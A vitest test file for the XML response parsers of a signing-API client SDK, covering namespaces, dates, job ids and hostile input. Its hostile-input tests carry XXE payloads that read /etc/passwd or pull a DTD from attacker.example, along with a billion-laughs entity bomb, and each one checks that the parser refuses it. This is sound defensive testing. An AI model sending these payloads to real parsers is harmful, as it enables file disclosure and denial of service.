// The response parsers must read whatever prefixes the server's JAXB assigns, ignore what they do not know,
// keep job ids exact, and refuse hostile or broken XML with ResponseParseError (never a crash or a silent guess).
import { inspect } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { RESPONSE_PARSE_ERROR_BODY_LIMIT, ResponseParseError, ValidationError } from '../../../src/errors/index.js';
import { parseXml } from '../../../src/xml/safe-xml.js';
import { ContactInformation, CustomIdentifier, Email, PersonalIdentificationNumber, Sms } from '../../../src/model/index.js';
import { MAX_RESPONSE_BYTES as MAX_XML_RESPONSE_BYTES } from '../../../src/protocol/facts.js';
import {
  parseDirectJobResponse,
  parseDirectJobStatusResponse,
  parseDirectSignerResponse,
  parsePortalJobResponse,
  parsePortalJobStatusChanged,
} from '../../../src/xml/index.js';

const NS = 'http://signering.posten.no/schema/v1';
const XADES = 'http://uri.etsi.org/01903/v1.3.2#';
const DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const next = new Date('2030-01-01T00:00:00Z');

/** A direct status response whose root and children carry `prefix` (empty = default namespace). */
function directStatus(
  opts: { id?: string; jobStatus?: string; status?: string; since?: string; extra?: string; prefix?: string; signer?: string } = {},
): string {
  const p = opts.prefix ? `${opts.prefix}:` : '';
  const xmlns = opts.prefix
    ? `xmlns="${XADES}" xmlns:ns2="http://www.w3.org/2000/09/xmldsig#" xmlns:${opts.prefix}="${NS}"`
    : `xmlns="${NS}" xmlns:ns2="${XADES}"`;
  return (
    `${DECL}<${p}direct-signature-job-status-response ${xmlns}>` +
    `<${p}reference>ref-1</${p}reference>` +
    `<${p}signature-job-id>${opts.id ?? '42'}</${p}signature-job-id>` +
    `<${p}signature-job-status>${opts.jobStatus ?? 'IN_PROGRESS'}</${p}signature-job-status>` +
    `<${p}status signer="${opts.signer ?? '01013300001'}" since="${opts.since ?? '2018-08-06T06:40:50.713+02:00'}">${opts.status ?? 'WAITING'}</${p}status>` +
    (opts.extra ?? '') +
    `<${p}confirmation-url>https://api.example/confirm</${p}confirmation-url>` +
    `<${p}xades-url signer="01013300001">https://api.example/xades/1</${p}xades-url>` +
    `</${p}direct-signature-job-status-response>`
  );
}

function portalChange(opts: { status?: string; since?: string; jobStatus?: string; id?: string } = {}): string {
  return (
    `${DECL}<ns4:portal-signature-job-status-change-response xmlns="${XADES}" xmlns:ns4="${NS}" xmlns:ns3="urn:unused">` +
    `<ns4:signature-job-id>${opts.id ?? '7'}</ns4:signature-job-id><ns4:status>${opts.jobStatus ?? 'IN_PROGRESS'}</ns4:status>` +
    `<ns4:confirmation-url>https://api.example/c</ns4:confirmation-url><ns4:cancellation-url>https://api.example/x</ns4:cancellation-url>` +
    `<ns4:delete-documents-url>https://api.example/d</ns4:delete-documents-url>` +
    `<ns4:signatures><ns4:signature><ns4:status since="${opts.since ?? '2018-08-06T06:40:50.713+02:00'}">${opts.status ?? 'SIGNED'}</ns4:status>` +
    `<ns4:identifier><ns4:email address="a@example.com"/><ns4:sms number="+4799999999"/></ns4:identifier>` +
    `<ns4:xades-url>https://api.example/xades/1</ns4:xades-url></ns4:signature>` +
    `<ns4:signature><ns4:status since="2018-08-06T04:40:50Z">WAITING</ns4:status><ns4:personal-identification-number>01013300002</ns4:personal-identification-number></ns4:signature>` +
    `<ns4:pades-url>https://api.example/pades</ns4:pades-url></ns4:signatures>` +
    `</ns4:portal-signature-job-status-change-response>`
  );
}

const expectParseError = (f: () => unknown, message?: RegExp): void => {
  let caught: unknown;
  try {
    f();
  } catch (e) {
    caught = e;
  }
  expect(caught).toBeInstanceOf(ResponseParseError);
  if (message) expect((caught as Error).message).toMatch(message);
};

describe('namespaces', () => {
  it('reads the API namespace as the default namespace', () => {
    const r = parseDirectJobStatusResponse(directStatus());
    expect(r.signatureJobId).toBe('42');
    expect(r.reference).toBe('ref-1');
    expect(r.status).toBe('IN_PROGRESS');
    expect(r.signatures[0]?.xadesReference?.url).toBe('https://api.example/xades/1');
  });

  it('reads the API namespace under prefix ns4 with XAdES as the default namespace (2018 JAXB output)', () => {
    const r = parseDirectJobStatusResponse(directStatus({ prefix: 'ns4' }));
    expect(r.signatureJobId).toBe('42');
    expect(r.references.confirmation?.url).toBe('https://api.example/confirm');
    expect(r.signatures[0]?.signer).toEqual(new PersonalIdentificationNumber('01013300001'));
  });

  it('portal status change with ns4 prefix, unused declarations, contact and PIN signers', () => {
    const r = parsePortalJobStatusChanged(portalChange(), next);
    expect(r.signatureJobId).toBe('7');
    expect(r.confirmationReference?.url).toBe('https://api.example/c');
    expect(r.cancellationReference?.url).toBe('https://api.example/x');
    expect(r.deleteDocumentsReference?.url).toBe('https://api.example/d');
    expect(r.padesReference?.url).toBe('https://api.example/pades');
    const contact = r.signatures[0]?.signer;
    expect(contact).toBeInstanceOf(ContactInformation);
    expect((contact as ContactInformation).email?.address).toBe('a@example.com');
    expect((contact as ContactInformation).sms?.number).toBe('+4799999999');
    expect(r.getSignatureFor(new PersonalIdentificationNumber('01013300002')).signatureStatus).toBe('WAITING');
  });

  it('the direct create response with an arbitrary prefix', () => {
    const xml =
      `${DECL}<a:direct-signature-job-response xmlns:a="${NS}" xmlns="urn:something-else"><a:signature-job-id>5</a:signature-job-id>` +
      `<a:redirect-url>https://r/old</a:redirect-url><a:status-url>https://api.example/status</a:status-url>` +
      `<a:signer href="https://api.example/signers/1"><a:signer-identifier>kunde-1</a:signer-identifier><a:redirect-url>https://r/1</a:redirect-url></a:signer>` +
      `</a:direct-signature-job-response>`;
    const r = parseDirectJobResponse(xml);
    expect(r.getSignerFor(new CustomIdentifier('kunde-1')).redirectUrl).toBe('https://r/1');
    expect(r.responseUrls.status('tok en').url).toBe('https://api.example/status?status_query_token=tok+en');
  });
});

describe('tolerance for what the parser does not know', () => {
  it('ignores unknown elements (also nested and in other namespaces) and unknown attributes', () => {
    const r = parseDirectJobStatusResponse(
      directStatus({
        extra: '<new-element attr="1"><deep><deeper>x</deeper></deep></new-element><x:other xmlns:x="urn:x">y</x:other>',
      }).replace('<signature-job-id>', '<signature-job-id unknown="attr">'),
    );
    expect(r.signatureJobId).toBe('42');
    expect(r.signatures).toHaveLength(1);
  });

  it('keeps unknown signer statuses as the strings they are (trimmed)', () => {
    expect(parseDirectJobStatusResponse(directStatus({ status: 'SOME_FUTURE_STATUS' })).signatures[0]?.signatureStatus).toBe('SOME_FUTURE_STATUS');
    expect(parseDirectJobStatusResponse(directStatus({ status: '\n  PENDING_REVIEW  \n' })).signatures[0]?.signatureStatus).toBe('PENDING_REVIEW');
    expect(parsePortalJobStatusChanged(portalChange({ status: 'BLOCKED_FOREVER' }), next).signatures[0]?.signatureStatus).toBe('BLOCKED_FOREVER');
  });

  it('refuses an unknown job status', () => {
    expectParseError(() => parseDirectJobStatusResponse(directStatus({ jobStatus: 'PAUSED' })), /unknown job status/);
    expectParseError(() => parsePortalJobStatusChanged(portalChange({ jobStatus: 'in_progress' }), next), /unknown job status/);
    expectParseError(() => parseDirectJobStatusResponse(directStatus({ jobStatus: '' })));
  });

  it('refuses the wrong root element', () => {
    expectParseError(() => parsePortalJobResponse(directStatus()), /Expected <portal-signature-job-response>/);
  });
});

describe('values', () => {
  it('parses `since` as a Date with offset and milliseconds', () => {
    const s = parseDirectJobStatusResponse(directStatus({ since: '2018-08-06T06:40:50.713+02:00' })).signatures[0];
    expect(s?.since).toBeInstanceOf(Date);
    expect(s?.since.toISOString()).toBe('2018-08-06T04:40:50.713Z');
    expect(parsePortalJobStatusChanged(portalChange({ since: '2020-02-29T23:59:59.001-05:30' }), next).signatures[0]?.since.toISOString()).toBe(
      '2020-03-01T05:29:59.001Z',
    );
    expect(parseDirectJobStatusResponse(directStatus({ since: '2018-08-06T06:40:50Z' })).signatures[0]?.since.getTime()).toBe(Date.UTC(2018, 7, 6, 6, 40, 50));
  });

  it('accepts fractional seconds of any precision', () => {
    expect(parseDirectJobStatusResponse(directStatus({ since: '2018-08-06T06:40:50.123456+02:00' })).signatures[0]?.since.toISOString()).toBe(
      '2018-08-06T04:40:50.123Z',
    );
    expect(parseDirectJobStatusResponse(directStatus({ since: '2018-08-06T06:40:50.1Z' })).signatures[0]?.since.toISOString()).toBe('2018-08-06T06:40:50.100Z');
  });

  // Date.parse alone would take '1' as 2001, RFC 1123 dates, and roll 30 February over into March.
  it.each([
    'not a date',
    '',
    '2018-13-45T99:99:99Z',
    'yesterday',
    '1',
    '2018',
    'Mon, 06 Aug 2018 06:40:50 GMT',
    '2018-08-06',
    '12/31/2018',
    '2018-02-30T00:00:00Z',
    '2018-08-06T06:40:50+2',
  ])('refuses the invalid date %j with ResponseParseError', (since) => {
    expectParseError(() => parseDirectJobStatusResponse(directStatus({ since })), /not a date-time/);
    expectParseError(() => parsePortalJobStatusChanged(portalChange({ since }), next), /not a date-time/);
  });

  it('refuses a status without `since`', () => {
    expectParseError(() => parseDirectJobStatusResponse(directStatus().replace(/ since="[^"]*"/, '')));
  });

  it('keeps every digit of job ids above 2^53', () => {
    expect(Number('9007199254740993')).toBe(9007199254740992); // what a number would have made of it
    expect(parseDirectJobStatusResponse(directStatus({ id: '9007199254740993' })).signatureJobId).toBe('9007199254740993');
    expect(parsePortalJobStatusChanged(portalChange({ id: '9223372036854775807' }), next).signatureJobId).toBe('9223372036854775807');
    const portal = `<portal-signature-job-response xmlns="${NS}"><signature-job-id>0012345678901234567</signature-job-id><cancellation-url>https://c</cancellation-url></portal-signature-job-response>`;
    expect(parsePortalJobResponse(portal).signatureJobId).toBe('0012345678901234567');
  });

  it('refuses a job id that is not a number', () => {
    expectParseError(() => parseDirectJobStatusResponse(directStatus({ id: '12abc' })), /not a number/);
    expectParseError(() => parseDirectJobStatusResponse(directStatus({ id: '1e5' })));
  });

  it('decodes numeric character references and predefined entities', () => {
    const xml = `<portal-signature-job-response xmlns="${NS}"><reference>Avtale &#248;&#xE6;&#229; &amp; &lt;x&gt; &quot;q&quot; &apos;a&apos;</reference><signature-job-id>1</signature-job-id><cancellation-url>https://c/?a=1&amp;b=2</cancellation-url></portal-signature-job-response>`;
    const r = parsePortalJobResponse(xml);
    expect(r.reference).toBe('Avtale øæå & <x> "q" \'a\'');
    expect(r.cancellationReference.url).toBe('https://c/?a=1&b=2');
  });

  it('decodes UTF-8 bytes and refuses invalid UTF-8', () => {
    const text = `<portal-signature-job-response xmlns="${NS}"><reference>æøå</reference><signature-job-id>1</signature-job-id><cancellation-url>https://c</cancellation-url></portal-signature-job-response>`;
    expect(parsePortalJobResponse(new TextEncoder().encode(text)).reference).toBe('æøå');
    const bad = new TextEncoder().encode(text.replace('æøå', 'XX'));
    const at = bad.indexOf(0x58);
    bad[at] = 0xc3;
    bad[at + 1] = 0x28;
    expectParseError(() => parsePortalJobResponse(bad), /UTF-8/);
  });

  it('signer responses: a PIN signer and a custom identifier, trimmed', () => {
    const r = parseDirectSignerResponse(
      `<direct-signer-response xmlns="${NS}" href="https://s/1"><signer-identifier> 12345678901 </signer-identifier><redirect-url>\n https://r \n</redirect-url></direct-signer-response>`,
    );
    expect(r.redirectUrl).toBe('https://r');
    expect(r.signerUrl.url).toBe('https://s/1');
    expect(r.identifier).toBeInstanceOf(CustomIdentifier);
  });
});

describe('hostile and broken input', () => {
  const portalWith = (reference: string, prolog = ''): string =>
    `${DECL}${prolog}<portal-signature-job-response xmlns="${NS}"><reference>${reference}</reference><signature-job-id>1</signature-job-id><cancellation-url>https://c</cancellation-url></portal-signature-job-response>`;

  it('refuses any DOCTYPE', () => {
    expectParseError(() => parsePortalJobResponse(portalWith('x', '<!DOCTYPE portal-signature-job-response>')), /DOCTYPE/);
    expectParseError(() => parsePortalJobResponse(portalWith('x', '<!doctype portal-signature-job-response [ ]>')), /DOCTYPE/);
  });

  it('refuses billion laughs', () => {
    const lol =
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>';
    expectParseError(() => parsePortalJobResponse(portalWith('&lol4;', lol)), /DOCTYPE/);
  });

  it('refuses external entities', () => {
    const xxe = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    expectParseError(() => parsePortalJobResponse(portalWith('&xxe;', xxe)));
    const param = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>';
    expectParseError(() => parsePortalJobResponse(portalWith('x', param)));
    expectParseError(() => parsePortalJobResponse(new TextEncoder().encode(portalWith('&xxe;', xxe))));
  });

  it('refuses an undeclared entity (HTML names are not XML) rather than expanding it', () => {
    expectParseError(() => parsePortalJobResponse(portalWith('a&xxe;b')), /undeclared entity &xxe;/);
    expectParseError(() => parsePortalJobResponse(portalWith('a&nbsp;b')), /undeclared entity &nbsp;/);
  });

  it('refuses character references to characters XML does not allow', () => {
    for (const ref of ['&#0;', '&#x1;', '&#xD800;', '&#xFFFE;', '&#x110000;', '&#99999999999;']) {
      expectParseError(() => parsePortalJobResponse(portalWith(`a${ref}b`)), /illegal character/);
    }
    expect(parsePortalJobResponse(portalWith('&#x1F600;&#9;x')).reference).toBe('😀\tx');
  });

  it('refuses a response over 1 MB, as bytes and as a string', () => {
    const padding = `<pad>${'x'.repeat(MAX_XML_RESPONSE_BYTES)}</pad>`;
    const huge = portalWith('x').replace('<signature-job-id>', `${padding}<signature-job-id>`);
    expect(MAX_XML_RESPONSE_BYTES).toBe(1024 * 1024);
    expectParseError(() => parsePortalJobResponse(huge), /limit/);
    expectParseError(() => parsePortalJobResponse(new TextEncoder().encode(huge)), /limit/);
  });

  it('accepts a response just under the limit', () => {
    const base = portalWith('x');
    const padding = `<pad>${'x'.repeat(MAX_XML_RESPONSE_BYTES - base.length - 20)}</pad>`;
    const big = base.replace('<signature-job-id>', `${padding}<signature-job-id>`);
    expect(big.length).toBeLessThanOrEqual(MAX_XML_RESPONSE_BYTES);
    expect(parsePortalJobResponse(big).signatureJobId).toBe('1');
  });

  it.each([
    ['not XML', 'this is not xml'],
    ['empty', ''],
    ['unclosed', `<portal-signature-job-response xmlns="${NS}"><signature-job-id>1</signature-job-id>`],
    ['two roots', `<a/><b/>`],
    ['missing id', `<portal-signature-job-response xmlns="${NS}"><cancellation-url>https://c</cancellation-url></portal-signature-job-response>`],
    ['missing cancellation URL', `<portal-signature-job-response xmlns="${NS}"><signature-job-id>1</signature-job-id></portal-signature-job-response>`],
    ['HTML error page', '<html><body><h1>502 Bad Gateway</h1></body></html>'],
  ])('refuses %s with ResponseParseError', (_name, body) => {
    expectParseError(() => parsePortalJobResponse(body));
  });

  it('a direct create response without signers is refused', () => {
    expectParseError(() =>
      parseDirectJobResponse(`<direct-signature-job-response xmlns="${NS}"><signature-job-id>1</signature-job-id></direct-signature-job-response>`),
    );
  });

  it('contact signers in status changes are matched by e-mail and mobile together', () => {
    const r = parsePortalJobStatusChanged(portalChange(), next);
    expect(() => r.getSignatureFor(new ContactInformation({ email: new Email('a@example.com') }))).toThrow(RangeError);
  });
});

describe('malformed XML is refused, not half-read', () => {
  // Without well-formedness validation the parser would accept these leniently and return partial content.
  it.each(['<a><b>x</a>', '<a>', '<a><b></a></b>', '<direct-signature-job-response><signature-job-id>12'])('%s', (xml) => {
    expect(() => parseXml(xml)).toThrow(ResponseParseError);
  });
});

describe('read, never validate as input (values the XSDs type as strings reach the application verbatim)', () => {
  const portalWithSigner = (identifier: string, status = 'SIGNED'): string =>
    `<portal-signature-job-status-change-response xmlns="${NS}"><signature-job-id>7</signature-job-id><status>IN_PROGRESS</status>` +
    `<confirmation-url>https://c</confirmation-url><signatures><signature><status since="2026-01-01T00:00:00Z">${status}</status>` +
    `<identifier>${identifier}</identifier></signature></signatures></portal-signature-job-status-change-response>`;
  const escape = (t: string): string =>
    t
      .replace(/&/g, '&amp;')
      .replace(/</g, '&lt;')
      .replace(/"/g, '&quot;')
      .replace(/[\t\n\r]/g, (c) => `&#${c.charCodeAt(0)};`);
  // Any string XML can carry, including what Email, Sms and CustomIdentifier refuse as input.
  // eslint-disable-next-line no-control-regex -- the characters XML cannot carry are what this filter names
  const xmlString = fc.string({ unit: 'grapheme', maxLength: 120 }).filter((s) => !/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/.test(s));

  it('e-mail addresses and mobile numbers as people type them', () => {
    const r = parsePortalJobStatusChanged(portalWithSigner('<email address="Ola Nordmann@eksempel"/><sms number="+47 999 99 999"/>'), next);
    const signer = r.signatures[0]?.signer as ContactInformation;
    expect([signer.email?.address, signer.sms?.number]).toEqual(['Ola Nordmann@eksempel', '+47 999 99 999']);
    expect(() => new Email('Ola Nordmann@eksempel')).toThrow(ValidationError); // the input check stays for the caller
  });

  it('any e-mail, mobile number, custom identifier, reference or URL the XML can carry, never a ValidationError', () => {
    fc.assert(
      fc.property(xmlString, xmlString, xmlString, xmlString, (address, number, signer, reference) => {
        const portal = parsePortalJobStatusChanged(portalWithSigner(`<email address="${escape(address)}"/><sms number="${escape(number)}"/>`), next);
        const contact = portal.signatures[0]?.signer as ContactInformation;
        expect([contact.email?.address, contact.sms?.number]).toEqual([address, number]);
        const direct = parseDirectJobStatusResponse(
          `<direct-signature-job-status-response xmlns="${NS}"><reference>${escape(reference)}</reference><signature-job-id>1</signature-job-id><signature-job-status>IN_PROGRESS</signature-job-status>` +
            `<status signer="${escape(signer)}" since="2026-01-01T00:00:00Z">SIGNED</status><xades-url signer="${escape(signer)}">https://x/${escape(reference)}</xades-url></direct-signature-job-status-response>`,
        );
        expect(direct.reference).toBe(reference);
        expect(direct.signatures[0]?.signer?.value).toBe(signer);
        expect(direct.signatures[0]?.xadesReference?.url).toBe(`https://x/${reference}`.replace(/[ \t\n\r]+$/, ''));
      }),
      { numRuns: 300 },
    );
  });

  it('a direct signer-identifier the SDK would not take as input', () => {
    const long = 'x'.repeat(81);
    const r = parseDirectSignerResponse(
      `<direct-signer-response xmlns="${NS}" href="https://s/1"><signer-identifier>${long}</signer-identifier><redirect-url>https://r</redirect-url></direct-signer-response>`,
    );
    expect((r.identifier as CustomIdentifier).value).toBe(long);
    expect(() => new CustomIdentifier(long)).toThrow(ValidationError);
  });

  it('getSignatureFor finds a contact signer given as the caller built it', () => {
    const r = parsePortalJobStatusChanged(portalWithSigner('<email address="Kari.Nordmann@Eksempel.no"/><sms number="+47 999 99 999"/>'), next);
    expect(r.getSignatureFor(new ContactInformation({ email: new Email('kari.nordmann@eksempel.no'), sms: new Sms('+4799999999') })).signatureStatus).toBe(
      'SIGNED',
    );
    expect(r.getSignatureFor(new ContactInformation({ email: new Email('kari.nordmann@eksempel.no'), sms: new Sms('99999999') })).signatureStatus).toBe(
      'SIGNED',
    );
    expect(() => r.getSignatureFor(new ContactInformation({ email: new Email('other@eksempel.no'), sms: new Sms('+4799999999') }))).toThrow(RangeError);
  });
});

describe('by namespace, once, text only', () => {
  it('an element of another namespace placed first is never taken for the API element', () => {
    const foreign = `<x:signature-job-id xmlns:x="urn:other">666</x:signature-job-id><x:signature-job-status xmlns:x="urn:other">FAILED</x:signature-job-status>`;
    const r = parseDirectJobStatusResponse(directStatus().replace('<reference>', `${foreign}<reference>`));
    expect([r.signatureJobId, r.status]).toEqual(['42', 'IN_PROGRESS']);
    // The API's names in no namespace are not the API's elements either.
    expectParseError(() => parseDirectJobStatusResponse(directStatus().replace(`xmlns="${NS}"`, '')), /API's namespace/);
    expectParseError(
      () =>
        parseDirectJobStatusResponse(
          directStatus({ prefix: 'p' }).replace(`<p:signature-job-id>42</p:signature-job-id>`, '<signature-job-id>42</signature-job-id>'),
        ),
      /lacks <signature-job-id>/,
    );
  });

  it.each([
    [
      'signature-job-id given twice',
      directStatus().replace('<signature-job-id>42</signature-job-id>', '<signature-job-id>42</signature-job-id><signature-job-id>43</signature-job-id>'),
    ],
    [
      'the job status given twice',
      directStatus().replace('<signature-job-status>', '<signature-job-status>FAILED</signature-job-status><signature-job-status>'),
    ],
    ['the reference given twice', directStatus().replace('<reference>ref-1</reference>', '<reference>a</reference><reference>b</reference>')],
    ['1<x/>2 as a job id', directStatus({ id: '1<x/>2' })],
    ['a foreign child in a job id', directStatus({ id: '1<f:x xmlns:f="urn:f"/>2' })],
    ['a child in a reference', directStatus().replace('ref-1', 'ref<b>1</b>')],
  ])('refuses %s with ResponseParseError', (_, xml) => {
    expectParseError(() => parseDirectJobStatusResponse(xml), /twice|times|child elements/);
  });
});

describe('ResponseParseError for a response that breaks the XSD', () => {
  const withoutId = portalChange().replace('<ns4:signature-job-id>7</ns4:signature-job-id>', '');

  it('never ValidationError or TypeError: a missing job id, a bad PIN, an empty identifier, a missing status', () => {
    for (const broken of [
      withoutId,
      portalChange().replace('01013300002', '0101330000'),
      portalChange().replace(/<ns4:identifier>.*?<\/ns4:identifier>/, '<ns4:identifier/>'),
      portalChange().replace(/<ns4:email address="a@example.com"\/>/, '<ns4:email/>'),
      portalChange().replace(/<ns4:status since="2018-08-06T06:40:50.713\+02:00">SIGNED<\/ns4:status>/, ''),
    ]) {
      expectParseError(() => parsePortalJobStatusChanged(broken, next));
    }
    expectParseError(() => parseDirectJobStatusResponse(directStatus().replace(/<status [^>]*>WAITING<\/status>/, '')));
  });

  it('offers the body (bounded, not printed) and the confirmation reference', () => {
    let error: ResponseParseError | undefined;
    try {
      parsePortalJobStatusChanged(new TextEncoder().encode(withoutId), next);
    } catch (e) {
      error = e as ResponseParseError;
    }
    expect(error).toBeInstanceOf(ResponseParseError);
    expect(error?.confirmationReference?.url).toBe('https://api.example/c');
    expect(error?.responseBody()).toBe(withoutId);
    expect(Object.keys(error as object)).not.toContain('body');
    for (const printed of [inspect(error), JSON.stringify(error), String(error)]) expect(printed).not.toContain('01013300002');

    const huge = withoutId.replace('<ns4:signatures>', `<x:pad xmlns:x="urn:pad">${'p'.repeat(200_000)}</x:pad><ns4:signatures>`);
    try {
      parsePortalJobStatusChanged(huge, next);
    } catch (e) {
      expect((e as ResponseParseError).responseBody()).toHaveLength(RESPONSE_PARSE_ERROR_BODY_LIMIT);
    }
  });

  it('masks identity numbers in its message, however written', () => {
    for (const pin of ['01013300001', '010133 00001', '010133-00001']) {
      expectParseError(() => parsePortalJobStatusChanged(portalChange({ jobStatus: pin }), next), /010133[ -]?\*\*\*\*\*/);
      expectParseError(() => parseDirectJobStatusResponse(directStatus({ since: pin })), /010133[ -]?\*\*\*\*\*/);
    }
  });
});

describe('getSignatureFor names a missing signer masked', () => {
  it('even a custom identifier written like an identity number', () => {
    const r = parseDirectJobStatusResponse(directStatus());
    for (const id of ['01013300009', '010133 00009']) {
      let message = '';
      try {
        r.getSignatureFor(new CustomIdentifier(id));
      } catch (e) {
        message = (e as Error).message;
      }
      expect(message).toMatch(/No signer .*010133 ?\*\*\*\*\*/);
    }
  });
});
